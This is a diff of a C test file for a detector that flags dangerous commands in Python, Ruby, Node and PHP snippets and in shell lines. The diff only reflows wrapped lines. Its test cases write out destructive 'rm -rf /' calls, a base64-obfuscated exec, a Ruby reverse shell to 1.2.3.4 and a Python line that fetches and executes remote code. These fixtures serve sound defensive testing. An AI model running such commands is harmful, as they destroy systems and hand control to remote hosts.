@@ -15,8 +15,7 @@ static const struct {
 	{ AB_LANG_PYTHON, "# os.system('rm -rf /')\nprint(1)", "" },
 	{ AB_LANG_PYTHON, "x = '''os.system(\"rm\")'''", "" },
 	{ AB_LANG_PYTHON, "__import__('os').system('rm ' 'x')", "{rm x}" },
-	{ AB_LANG_PYTHON, "from os import system\nsystem('rm ' + \"x\")",
-	  "{rm x}" },
+	{ AB_LANG_PYTHON, "from os import system\nsystem('rm ' + \"x\")", "{rm x}" },
 	{ AB_LANG_PYTHON, "import platform; platform.system()", "" },
 	{ AB_LANG_PYTHON, "os.system(f'rm -rf {d}/x')", "{rm -rf ^/x}" },
 	{ AB_LANG_PYTHON, "os.system('rm -rf ' + d)", "{rm -rf ^}" },
@@ -26,16 +25,14 @@ static const struct {
 	{ AB_LANG_PYTHON, "subprocess.run(['rm', '-rf', '/'])", "rm -rf /" },
 	{ AB_LANG_PYTHON, "subprocess.run(['rm', d], check=True)", "rm ^" },
 	{ AB_LANG_PYTHON, "subprocess.run('rm x', shell=True)", "{rm x}" },
-	{ AB_LANG_PYTHON, "subprocess.check_output('rm x'.split())",
-	  "{rm x}" },
+	{ AB_LANG_PYTHON, "subprocess.check_output('rm x'.split())", "{rm x}" },
 	{ AB_LANG_PYTHON, "subprocess.run(['ls'], shell=False)", "ls" },
 	{ AB_LANG_PYTHON, "app.run('0.0.0.0')", "" },
 	{ AB_LANG_PYTHON, "subprocess.getoutput('ls')", "{ls}" },
 	{ AB_LANG_PYTHON, "os.execvp('rm', ['rm', '-rf', '/'])", "rm -rf /" },
 	{ AB_LANG_PYTHON, "os.execlp('rm', 'rm', '-rf', '/')", "rm -rf /" },
 	{ AB_LANG_PYTHON, "shutil.rmtree('/')", "rm -rf /" },
-	{ AB_LANG_PYTHON, "shutil.rmtree(d, ignore_errors=True)",
-	  "rm -rf ^" },
+	{ AB_LANG_PYTHON, "shutil.rmtree(d, ignore_errors=True)", "rm -rf ^" },
 	{ AB_LANG_PYTHON, "os.remove('/etc/x')", "rm /etc/x" },
 	{ AB_LANG_PYTHON, "l.remove('x')", "" },
 	{ AB_LANG_PYTHON, "open('/etc/x', 'w').write('y')", "tee /etc/x" },
@@ -43,10 +40,8 @@ static const struct {
 	{ AB_LANG_PYTHON, "open('/etc/x', 'rb').read()", "" },
 	{ AB_LANG_PYTHON, "Path('/etc/x').write_text('y')", "tee /etc/x" },
 	{ AB_LANG_PYTHON, "Path('/etc/x').read_text()", "" },
-	{ AB_LANG_PYTHON, "exec('import os; os.system(\"rm x\")')",
-	  "{rm x}" },
-	{ AB_LANG_PYTHON,
-	  "exec(base64.b64decode('b3Muc3lzdGVtKCJybSB4Iik='))", "{rm x}" },
+	{ AB_LANG_PYTHON, "exec('import os; os.system(\"rm x\")')", "{rm x}" },
+	{ AB_LANG_PYTHON, "exec(base64.b64decode('b3Muc3lzdGVtKCJybSB4Iik='))", "{rm x}" },
 	{ AB_LANG_PYTHON, "json.dumps({'a': [1, 2]})", "" },
 	{ AB_LANG_PYTHON, "os.system(", "" },
 	{ AB_LANG_PYTHON, "os.system('rm x", "{rm x}" },
@@ -80,10 +75,8 @@ static const struct {
 	{ AB_LANG_RUBY, "f.write('x')", "" },
 	{ AB_LANG_RUBY, "system(\"rm #{x}\")", "{rm ^}" },
 
-	{ AB_LANG_NODE, "require('child_process').execSync('rm -rf /')",
-	  "{rm -rf /}" },
-	{ AB_LANG_NODE, "const {exec}=require('child_process');exec(`rm ${x}`)",
-	  "{rm ^}" },
+	{ AB_LANG_NODE, "require('child_process').execSync('rm -rf /')", "{rm -rf /}" },
+	{ AB_LANG_NODE, "const {exec}=require('child_process');exec(`rm ${x}`)", "{rm ^}" },
 	{ AB_LANG_NODE, "cp.spawn('rm', ['-rf', '/'])", "rm -rf /" },
 	{ AB_LANG_NODE, "/x/.exec('rm -rf /')", "" },
 	{ AB_LANG_NODE, "re.exec('rm -rf /')", "" },
@@ -93,8 +86,7 @@ static const struct {
 	{ AB_LANG_NODE, "fs.rmSync('x')", "rm x" },
 	{ AB_LANG_NODE, "fs.writeFileSync('/etc/x', 'y')", "tee /etc/x" },
 	{ AB_LANG_NODE, "fs.readFileSync('/etc/x')", "" },
-	{ AB_LANG_NODE, "eval('require(\"child_process\").exec(\"rm x\")')",
-	  "{rm x}" },
+	{ AB_LANG_NODE, "eval('require(\"child_process\").exec(\"rm x\")')", "{rm x}" },
 
 	{ AB_LANG_PHP, "system('rm -rf /');", "{rm -rf /}" },
 	{ AB_LANG_PHP, "echo shell_exec(\"rm $x\");", "{rm ^}" },
@@ -126,8 +118,7 @@ static void test_cases(void)
 	for (size_t i = 0; i < AB_COUNT(cases); i++) {
 		struct ab_arena arena = { 0 };
 		struct ab_field code = { .text = { cases[i].code,
-						   (uint32_t)strlen(
-							   cases[i].code) } };
+						   (uint32_t)strlen(cases[i].code) } };
 		ab_autofree char *got = NULL;
 		struct ab_oneliner found;
 
@@ -136,8 +127,7 @@ static void test_cases(void)
 		is_str(got, cases[i].want, cases[i].code);
 		/* Cut anywhere it is read as well. */
 		for (; code.text.len > 0; code.text.len--)
-			ab_code_read(&arena, cases[i].language, &code,
-				     &found);
+			ab_code_read(&arena, cases[i].language, &code, &found);
 		ab_arena_fini(&arena);
 	}
 }
@@ -160,8 +150,7 @@ static const struct {
 	{ "ruby -rsocket -e 'f=TCPSocket.open(\"1.2.3.4\",9).to_i;"
 	  "exec sprintf(\"/bin/sh -i <&%d >&%d\",f,f)'",
 	  AB_CODE_SOCKET | AB_CODE_DUP | AB_CODE_SHELL },
-	{ "python3 -c 'exec(urlopen(\"http://x\").read())'",
-	  AB_CODE_NETWORK_EXEC },
+	{ "python3 -c 'exec(urlopen(\"http://x\").read())'", AB_CODE_NETWORK_EXEC },
 	{ "python3 -c 'print(urlopen(\"http://x\").read())'", 0 },
 	{ "awk '{print > \"x\"}'", AB_CODE_WRITES },
 	{ "awk '{print $1}'", 0 },
@@ -179,8 +168,7 @@ static void test_traits(void)
 
 		split(&arena, traits[i].line, &command);
 		got = ab_code_traits(&command);
-		ok(got == traits[i].traits, "traits %u: %s", got,
-		   traits[i].line);
+		ok(got == traits[i].traits, "traits %u: %s", got, traits[i].line);
 		ab_arena_fini(&arena);
 	}
 }
